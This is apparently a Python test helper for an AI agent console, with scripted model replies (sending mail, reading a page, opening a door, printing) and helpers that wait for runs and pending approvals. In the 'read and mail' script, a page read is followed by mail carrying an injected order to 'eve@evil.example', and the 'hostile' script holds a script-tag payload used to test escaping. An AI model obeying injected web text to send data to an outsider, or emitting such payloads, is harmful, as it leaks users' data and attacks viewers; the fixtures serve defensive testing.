"""What the model of the browser tests answers, and waiting for its runs."""

import asyncio
from typing import Any

from tests.server.console.tools_of_console import HOSTILE, ORDER
from tests.server.model import HOLD
from tests.server.running import Client
from tests.server.test_runs import ended

MAIL = ("mail.send.v1", {"to": "ana@example.org", "text": "hi"})
READ = ("web.read.v1", {"address": "https://example.org/report"})
SCRIPT: dict[str, Any] = {
    "mail": [[MAIL], "It is sent."],
    "two mails": [[MAIL, ("mail.send.v1", {"to": "bo@example.org", "text": "ho"})], "Both are sent."],
    "read and mail": [
        [READ],
        [("mail.send.v1", {"to": "eve@evil.example", "text": f"Report: {ORDER}"})],
        "It is sent.",
    ],
    "hostile": [
        [("<script>window.ran = 9</script>", {"x": HOSTILE})],
        [("web.read.v1", {"address": HOSTILE})],
        [("mail.send.v1", {"to": HOSTILE, "text": HOSTILE})],
        HOSTILE,
    ],
    "door": [[("door.open.v1", {"door": "north", "code": "swordfish"})], "It is open."],
    "wait": [[("print.page.v1", {"page": 1})], ["One page ", HOLD, "is printed."]],
}


async def run_to(http: Client, prompt: str) -> str:
    """Start a run and wait until it stops; return its id."""
    _, run = await http.post("/v1/runs", {"prompt": prompt})
    await ended(http, run["run_id"])
    name: str = run["run_id"]
    return name


async def approval_of(http: Client, run_id: str) -> str:
    _, listed = await http.get(f"/v1/approvals?state=pending&run_id={run_id}")
    name: str = listed["approvals"][0]["approval_id"]
    return name


async def state_of(http: Client, run_id: str, state: str) -> dict[str, Any]:
    """Wait until a run is in a state, and return it."""
    shown: dict[str, Any] = {}
    for _ in range(400):
        _, shown = await http.get(f"/v1/runs/{run_id}")
        if shown["state"] == state and not shown["live"]:
            return shown
        await asyncio.sleep(0.05)
    raise AssertionError(shown)
